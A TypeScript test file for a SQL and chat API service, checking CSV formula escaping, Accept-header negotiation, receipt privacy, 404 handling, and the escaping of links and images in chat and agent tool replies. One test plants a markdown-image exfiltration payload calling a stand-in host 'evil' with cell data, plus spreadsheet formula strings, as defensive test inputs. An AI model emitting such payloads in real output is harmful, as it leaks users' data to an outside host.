import { describe, expect, it } from 'vitest';
import { loadProjectFolder } from '../../src/lens/files/load-project-folder.ts';
import { SHOP, startTestApp } from '../support/app.ts';

const svc = await startTestApp();

const postSql = (statement: string, headers?: Record<string, string>) =>
  svc.post('/v1/sql', { sql: statement, lens: 'shop' }, undefined, headers);

describe('rows as CSV', () => {
  it('prefix text that a spreadsheet would read as a formula, and leave numbers as they are', async () => {
    const { text } = await postSql(`select '=1+1' as a, '@x' as b, '-' as c, -5 as d, 'a=b' as e`, {
      accept: 'text/csv',
    });
    expect(text).toBe("a,b,c,d,e\r\n'=1+1,'@x,'-,-5,a=b\r\n");
  });

  it.each([
    ['text/csv', /^text\/csv/],
    ['text/csv;q=0.5, application/json', /^application\/json/],
    ['application/json;q=0.1, text/csv', /^text\/csv/],
    ['application/json, text/csv', /^application\/json/],
    ['text/csv;q=0', /^application\/json/],
  ])('are returned according to the weights in Accept: %s', async (accept, type) => {
    expect((await postSql('select 1 as one', { accept })).headers['content-type']).toMatch(type);
  });
});

it('names model as the parameter when a chat request names an unknown lens', async () => {
  const { status, body } = await svc.post('/v1/chat/completions', {
    model: 'svc/nope',
    messages: [{ role: 'user', content: 'revenue' }],
  });
  expect(status).toBe(404);
  expect(body.error).toMatchObject({ code: 'not_found', param: 'model' });
});

it('shows a caller nothing about the admin who ran SQL on a connection when verifying the receipt', async () => {
  const sqlReply = await svc.post('/v1/sql', { sql: 'select 1 as one', connection: 'shop' }, svc.adminToken);
  expect(sqlReply.body.receipt).toBeTruthy();
  const verify = async (token: string) => (await svc.post('/v1/verify-receipt', sqlReply.body.receipt, token)).body;
  expect(await verify(svc.adminToken)).toMatchObject({ ok: true, trace_found: true });
  expect(await verify(svc.callerKey)).toMatchObject({ ok: false, trace_found: false, caller: null, question: null });
});

it('escapes links and images in cells for chat clients and agents', async () => {
  const files = await loadProjectFolder(SHOP);
  const evil = await startTestApp({
    files: {
      ...files,
      'svc.config.yaml': files['svc.config.yaml']!.replace(
        'region, segment,',
        "region, '![x](http://evil/?q=' || segment || ') <img src=x>' as segment,",
      ),
    },
  });
  try {
    for (const format of ['both', 'structured']) {
      const { body } = await evil.post('/v1/chat/completions', {
        model: 'svc/shop',
        messages: [{ role: 'user', content: 'revenue by segment' }],
        format,
      });
      expect(body.choices[0].message.content).toContain('x');
      expect(body.choices[0].message.content).not.toMatch(/\]\(|!\[|<img/);
    }
    for (const [name, replyText] of [
      ['query', { q: 'revenue by segment' }],
      ['query', { q: 'revenue by segment', format: 'structured' }],
      ['sql', { sql: "select segment, '[a][b]' as ref from main.orders" }],
      ['query', { q: 'revenue where segment is "![x](http://evil/?q=Consumer) <img src=y>"' }],
      ['describe_lens', {}],
    ] as const) {
      const { content, structuredContent } = await evil.callTool(name, { lens: 'shop', ...replyText });
      expect(content[0]!.text).not.toMatch(/\]\(|\]\[|\]:|!\[|<img/);
      // Structured content keeps the original cell for programs.
      if (structuredContent.data) expect(JSON.stringify(structuredContent.data)).toContain('![x](http://evil/');
    }
  } finally {
    await evil.close();
  }
});

it.each(['/v1/lenses/', '/mgmt/runs/', '/mgmt/lenses/', '/mgmt/observe/requests/', '/mgmt/reviews/', '/schemas/'])(
  'answers 404 for a name of 300 characters: %s',
  async (path) => {
    const { status, body } = await svc.get(`${path}${'a'.repeat(300)}`, svc.adminToken);
    expect(status).toBe(404);
    expect(body.error.code).toBe('not_found');
  },
);
